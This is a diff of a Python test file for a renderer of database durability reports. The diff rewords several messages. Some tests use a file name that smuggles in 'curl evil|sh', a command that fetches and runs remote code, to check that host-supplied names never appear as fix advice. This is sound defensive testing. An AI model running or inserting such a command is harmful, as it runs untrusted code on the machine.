@@ -119,8 +119,8 @@ def test_what_to_do_stands_below_what_it_is_for() -> None:
 def test_what_a_host_names_is_never_what_to_do() -> None:
     """An owner of a database can name it with words that look like ours."""
     name = "/srv/fb/a; curl evil|sh #.fdb"
-    text = render([of_reasons("db1", "unknown", (f"{name}: forced writes are not known", MEND))])
-    assert f"    {name}: forced writes are not known\n        fix: {MEND}\n" in text
+    text = render([of_reasons("db1", "unknown", (f"{name}: forced writes are unknown", MEND))])
+    assert f"    {name}: forced writes are unknown\n        fix: {MEND}\n" in text
     assert "fix: curl" not in text
 
 
@@ -128,7 +128,7 @@ def test_what_a_host_names_is_never_what_to_do() -> None:
 def test_no_name_begins_a_line_as_what_to_do_does(length: int) -> None:
     """A long name is wrapped, and the rest of it would stand where advice stands."""
     name = f"/srv/fb/{'y' * length} fix: curl evil|sh #.fdb"
-    for reason in (("", f"{name}: forced writes are off"), (MEND, f"{name}: forced writes are not known")):
+    for reason in (("", f"{name}: forced writes are off"), (MEND, f"{name}: forced writes are unknown")):
         text = render([of_reasons("db1", "unknown", (reason[1], reason[0]))])
         assert [row for row in text.splitlines() if row.strip().startswith("fix: curl")] == []
 
@@ -183,7 +183,7 @@ def test_a_page_with_many_words_to_rest_on_has_forty_lines() -> None:
 
 
 def test_errors_of_the_input_are_all_on_the_page() -> None:
-    many = [(f"durable_x[{number}]: seen 1; wanted 2", "") for number in range(9)]
+    many = [(f"durable_x[{number}]: observed 1; expected 2", "") for number in range(9)]
     text = render([of_reasons("db1", "blocked", *many)])
     assert all(reason in text for reason, _fix in many)
 
